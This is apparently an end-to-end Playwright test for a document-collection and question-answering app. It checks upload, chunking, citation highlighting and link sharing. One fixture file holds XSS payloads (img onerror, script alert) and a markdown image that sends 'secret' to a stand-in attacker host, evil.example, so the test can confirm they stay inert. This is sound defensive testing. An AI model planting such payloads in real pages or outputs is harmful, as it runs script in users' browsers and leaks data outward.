"""A person with files: dropped, seen in chunks, added, asked about; a citation opens the passage, highlighted.

One of the files is hostile in name and text: the fixture fails the test if a script runs or a stranger is asked.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conftest import ANSWER_MS, set_tokens

pytestmark = pytest.mark.e2e
SHIPPED = Path(__file__).parents[2] / "prompts" / "collections" / "solar-system"
QUESTION = "Which planet is named after the Roman god of war?"
HOSTILE = "<img src=x onerror=alert(1)>"
JOB_MS = 120_000


@pytest.fixture
def files(tmp_path: Path) -> list[Path]:
    """Two texts and a hostile one."""
    hostile = tmp_path / f"{HOSTILE}.md"
    hostile.write_text(
        f"A note about Mercury and Venus: {HOSTILE} ![x](https://evil.example/?q=secret) <script>alert(2)</script>"
    )
    return [SHIPPED / "mars.md", SHIPPED / "saturn.md", hostile]


def test_from_upload_to_a_highlighted_citation(open_page: Callable[..., Page], files: list[Path]) -> None:
    page = open_page("/collections")
    page.get_by_role("button", name="New collection").click(timeout=60_000)
    page.get_by_label("Name", exact=True).fill("my planets")
    page.get_by_label("Name", exact=True).press("Enter")
    page.get_by_role("button", name="Make it").click()
    expect(page).to_have_url(re.compile("collection=my"), timeout=60_000)

    # seen before anything is embedded
    page.locator("input[type=file]").first.set_input_files(files)
    text = page.locator(".document")
    expect(text).to_contain_text("Mars is named after the Roman god of war.", timeout=JOB_MS)
    expect(text.locator(".number").first).to_have_text("1")
    expect(page.get_by_text("1 chunk", exact=True)).to_be_visible()
    expect(page.get_by_text("0 files · 0 chunks")).to_be_visible()

    page.get_by_role("combobox", name=re.compile("File")).click()
    page.get_by_role("option", name=HOSTILE).click()
    expect(text).to_contain_text(f"{HOSTILE} ![x](https://evil.example/?q=secret)", timeout=60_000)

    page.get_by_role("button", name="Add to the collection").click()
    expect(page.get_by_text(re.compile("3 added"))).to_be_visible(timeout=JOB_MS)
    expect(page.get_by_text(re.compile("3 files · 3 chunks"))).to_be_visible()

    page.get_by_test_id("stMain").get_by_role("link", name="Ask").click()
    expect(page.get_by_placeholder("Ask the documents")).to_be_enabled(timeout=60_000)
    set_tokens(page, 48)
    box = page.get_by_placeholder("Ask the documents")
    box.fill(QUESTION)
    box.press("Enter")
    expect(page).to_have_url(re.compile("answers="), timeout=60_000)
    address = page.url
    expect(page.get_by_role("button", name="Ask again")).to_be_visible(timeout=ANSWER_MS)
    expect(page.get_by_text("Without documents", exact=True).last).to_be_visible()

    # a citation opens its passage where it stands
    page.locator("button.cite").first.click()
    marked = page.locator("mark.marked")
    expect(marked.first).to_contain_text("Mars is named after the Roman god of war", timeout=30_000)
    expect(marked.first).to_be_in_viewport()
    expect(page.get_by_text("Passage 1", exact=True)).to_be_visible()

    # the link is the answer, in another browser too
    other = open_page(address)
    expect(other.locator("button.cite").first).to_be_visible(timeout=60_000)
    expect(other.get_by_text(QUESTION).first).to_be_visible()
